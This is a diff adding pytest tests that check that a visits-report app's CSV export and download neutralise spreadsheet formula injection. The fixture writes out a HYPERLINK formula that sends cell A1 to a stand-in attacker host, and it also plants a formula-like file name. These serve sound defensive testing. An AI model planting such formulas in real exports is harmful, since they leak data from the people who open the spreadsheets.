@@ -52,3 +52,34 @@ def test_csv_flattens_lists_with_semicolons(tmp_path):
     assert rows[0]["officials"] == "Li Qiang"
     assert set(rows[0]["cities"].split("; ")) == {"Zhuzhou", "Changsha"}
     assert rows[0]["sources"] == seed("001").name
+
+
+# A report whose text begins with a formula, in a file whose name begins with another.
+FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Details")'
+
+
+@pytest.fixture
+def formula_report(tmp_path):
+    header, text = seed("001").read_text(encoding="utf-8").split("\n", 1)
+    title = header.split(" ", 3)[3]  # " date YYYY-MM-DD Title"
+    report = tmp_path / "@SUM(1+1).txt"
+    report.write_text(f"{FORMULA} {title}\n{text}", encoding="utf-8")
+    Importer().import_paths([str(report)])
+    return report
+
+
+def cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def test_no_csv_cell_is_a_formula_in_export_visits_or_the_sites_downloads(
+    client, tmp_path, formula_report
+):
+    written = export("csv", tmp_path)
+    downloaded = b"".join(client.get("/visits/", {"format": "csv"}).streaming_content).decode()
+
+    for text in (written, downloaded):
+        (row,) = csv.DictReader(io.StringIO(text))
+        assert row["summary"].startswith("'" + FORMULA)  # shown as text, as it was written
+        assert row["sources"] == "'@SUM(1+1).txt"
+        assert not [c for c in cells(text) if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
